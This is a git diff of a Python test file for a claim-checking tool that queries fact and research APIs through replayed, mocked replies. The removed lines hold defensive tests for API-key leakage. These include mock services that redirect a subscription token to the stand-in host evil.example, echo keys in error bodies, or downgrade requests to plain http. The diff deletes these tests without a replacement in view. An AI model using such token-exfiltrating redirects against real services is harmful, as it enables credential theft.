@@ -1,8 +1,6 @@
 """All providers together, over a transport that plays the services with their saved replies."""
 
-import gzip
 import io
-import json
 import sqlite3
 from dataclasses import replace
 from pathlib import Path
@@ -12,122 +10,35 @@ import httpx
 import pytest
 import yaml
 from builders import a_claim, a_document
+from playing_services import (
+    REPLIES,
+    World,
+    a_sourced_claim,
+    answer,
+    full_desk,
+    hunt,
+    nobody,
+    outcomes,
+)
 from warcio.archiveiterator import ArchiveIterator
 
 from claims.model.errors import DamagedData
 from claims.model.settings import SECRETS
 from claims.steps.coverage import coverage
-from claims.steps.diagnose import diagnose
-from claims.steps.find_sources import Findings, Wish, find
 from claims.steps.gather_evidence import gather_evidence
-from claims.steps.listing import everything
 from claims.steps.provider_states import provider_states
 from claims.steps.verify import verify
 from db import rows, searches
 
-REPLIES = Path(__file__).resolve().parents[1] / "sources/replies"
-KEYS = {name: f"s3cret-{name}-0123456789" for name in SECRETS}
-PAGE = b"<html><title>A page</title><article><p>In all 15,051 soldiers died, it is told here.</p></article></html>"
-TEXT = (
-    "Inflation in Turkey reached 72 percent in 2022, a study of the U.S. Supreme Court ruling found. "
-    "The vaccine page https://city.example/budget said so. It rained.\n"
-)
-SAYS = (
-    "Inflation in Turkey reached 72 percent in 2022, a study of the U.S. Supreme Court ruling found"
-)
-HOSTS = {
-    "wiki.example": "mediawiki", "www.wikidata.org": "wikidata",
-    "factchecktools.googleapis.com": "factcheck", "api.crossref.org": "crossref",
-    "api.openalex.org": "openalex", "www.ebi.ac.uk": "europepmc",
-    "api.gdeltproject.org": "gdelt", "api.worldbank.org": "worldbank",
-    "www.courtlistener.com": "courtlistener", "catalog.data.gov": "datagov",
-    "web.archive.org": "wayback", "timetravel.mementoweb.org": "memento",
-    "search.desk.example": "searxng", "api.search.brave.com": "brave", "kiwix.example": "zim",
-}  # fmt: skip
-PAGE_HOSTS = (
-    "a.example", "b.example", "doi.org", "repo.example", "openalex.org", "facts.example",
-    "other.example", "europepmc.org", "data.cityofchicago.org", "archive.example", "arquivo.example",
-)  # fmt: skip
-APIS = ("/w/api.php", "/v1alpha1", "/works", "/europepmc/webservices", "/api/", "/v2/", "/search",
-        "/cdx/", "/timemap/", "/searx/search", "/res/v1")  # fmt: skip
-
-
-def answer(status=200, body=b"", kind="application/json", **headers):
-    headers = {"Content-Type": kind, **{k.replace("_", "-"): v for k, v in headers.items()}}
-    return httpx.Response(status, headers=headers, stream=httpx.ByteStream(body))
-
-
-class World:
-    """Services that answer as saved, and pages that can be read. `odd` answers instead, by provider."""
-
-    def __init__(self, sort="found", page=PAGE, page_status=200, **odd):
-        self.sort, self.page, self.page_status, self.odd = sort, page, page_status, odd
-        self.asked = []
-
-    def __call__(self, request):
-        host, path = request.url.host, request.url.path
-        self.asked.append(request)
-        if path == "/robots.txt":
-            return answer(404)
-        name = HOSTS.get(host)
-        if not name or not path.startswith(APIS):
-            return answer(self.page_status, self.page, "text/html")
-        if name in self.odd:
-            return self.odd[name](request)
-        case = yaml.safe_load((REPLIES / f"{name}.yaml").read_text())[self.sort][0]
-        step = {"wbgetentities": 1}.get(request.url.params.get("action"), 0)
-        step += request.url.params.get("props") == "labels"
-        chosen = case["answers"][min(step, len(case["answers"]) - 1)]
-        return answer(chosen.get("status", 200), chosen["body"].encode())
-
-    def names(self):
-        return [
-            HOSTS[r.url.host]
-            for r in self.asked
-            if r.url.host in HOSTS and r.url.path.startswith(APIS)
-        ]
-
 
 @pytest.fixture
 def desk(edges):
-    """The edges of a desk that has every key and instance."""
-    settings = replace(
-        edges.settings,
-        mediawiki="https://wiki.example/w/api.php",
-        searxng="https://search.desk.example/searx",
-        zim="https://kiwix.example",
-        allow_hosts=",".join(f"{host}:443" for host in (*HOSTS, *PAGE_HOSTS)),  # without pauses
-        **KEYS,
-    )
-    return replace(edges, settings=settings)
+    return full_desk(edges)
 
 
 @pytest.fixture
 def claim(database):
-    document = a_document(
-        database, TEXT, url="https://news.example/article", published="2026-11-20"
-    )
-    return a_claim(database, document, SAYS, claim_text=SAYS + ".", dates=["2022"])
-
-
-def hunt(edges, world, claims, **wish):
-    used = replace(edges, transport=httpx.MockTransport(world))
-    findings = Findings()
-    list(find(used, claims, Wish(**wish), findings=findings))
-    return findings
-
-
-def outcomes(findings):
-    return {s["provider"]: s["outcome"] for s in findings.searches}
-
-
-def every_byte(edges):
-    """All that was written: the database with its log, and the archive unpacked."""
-    edges.database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
-    written = edges.path.read_bytes()
-    for path in edges.archive.glob("*.warc.gz"):
-        written += path.read_bytes() + gzip.decompress(path.read_bytes())
-    return written
+    return a_sourced_claim(database)
 
 
 def test_the_claim_leads_to_providers_and_each_keeps_its_reason(desk, claim):
@@ -150,57 +61,6 @@ def test_the_claim_leads_to_providers_and_each_keeps_its_reason(desk, claim):
     assert findings.failures == []
 
 
-def test_no_key_is_written_anywhere(desk, claim, capsys):
-    for sort in ("found", "error", "throttled"):
-        hunt(desk, World(sort), [claim], refresh=True)
-    report = json.dumps(
-        [diagnose(desk), list(provider_states(desk)), everything(desk, "claims", claim)]
-    )
-    written = every_byte(desk) + report.encode() + repr(desk.settings).encode()
-    written += "".join(capsys.readouterr()).encode()
-    for name, key in KEYS.items():
-        assert key.encode() not in written, name
-    assert b"api_key=***" in written, "that a key was sent is told"
-
-
-def test_every_key_is_sent_to_its_own_service_alone(desk, claim):
-    world = World()
-    hunt(desk, world, [claim])
-    holders = {"factcheck_key": "factcheck", "openalex_key": "openalex",
-               "courtlistener_token": "courtlistener", "brave_key": "brave"}  # fmt: skip
-    for name, key in KEYS.items():
-        to = {
-            HOSTS.get(r.url.host)
-            for r in world.asked
-            if key in str(r.url) + str(r.headers.multi_items())
-        }
-        assert to == ({holders[name]} if name in holders else set())
-
-
-LEAKS = [
-    ("brave", lambda r: answer(302, Location="https://evil.example/?t=" + r.headers["x-subscription-token"])),
-    ("openalex", lambda r: answer(200, json.dumps({"message": f"unknown {r.url.params['api_key']}"}).encode())),
-    ("openalex", lambda r: answer(200, gzip.compress(json.dumps({"results": [
-        {"id": "https://openalex.org/W1", "display_name": f"key {r.url.params['api_key']}"}]}).encode()),
-        Content_Encoding="gzip")),
-    ("factcheck", lambda r: answer(400, json.dumps({"error": {"message": f"bad {r.url}"}}).encode())),
-    ("factcheck", lambda r: answer(301, Location=str(r.url).replace("https", "http") + "&again=1")),
-    ("courtlistener", lambda r: answer(401, r.headers["authorization"].encode(), X_Echo=r.headers["authorization"])),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize(("name", "leak"), LEAKS)
-def test_a_service_that_repeats_the_key_is_not_kept_with_it(desk, claim, name, leak):
-    world = World(**{name: leak})
-    findings = hunt(desk, world, [claim], providers=(name,))
-    told = json.dumps(findings.searches) + str(findings.failures)
-    for key in KEYS.values():
-        assert key not in told
-        assert key.encode() not in every_byte(desk)
-    elsewhere = [r for r in world.asked if r.url.host == "evil.example"]
-    assert all(KEYS["brave_key"] not in str(r.headers.multi_items()) for r in elsewhere)
-
-
 def test_every_answer_is_in_the_archive_with_its_digest(desk, claim):
     hunt(desk, World(), [claim])
     kept = list(rows.select(desk.database, "replies"))
@@ -220,10 +80,6 @@ def candidates(edges):
         {k: v for k, v in row.items() if k != "snapshot"} | {"tied": row["snapshot"] is not None}
         for row in rows.select(edges.database, "candidates", order_by="search, rank")
     ]
-
-
-def nobody(request):
-    raise AssertionError(f"asked {request.url} although offline")
 
 
 def test_offline_replays_the_answers_and_gives_the_same_candidates(desk, claim):
@@ -368,14 +224,6 @@ def test_a_provider_asked_for_by_name_that_cannot_be_asked_is_a_failure(edges, c
     findings = hunt(edges, nobody, [claim], providers=("brave",))
     assert [f.what for f in findings.failures] == ["provider brave"]
     assert "no key" in findings.failures[0].why
-
-
-@pytest.mark.parametrize("key", ["k7x2", "has a space in it", "nö-ascii-key-1234"])
-def test_a_key_that_can_be_none_is_told_without_showing_it(desk, claim, key):
-    used = replace(desk, settings=replace(desk.settings, brave_key=key))
-    findings = hunt(used, nobody, [claim], providers=("brave",))
-    assert "brave_key" in findings.failures[0].why
-    assert key not in str(findings.failures)
 
 
 def test_a_page_that_is_gone_leads_to_its_captures(desk, claim):
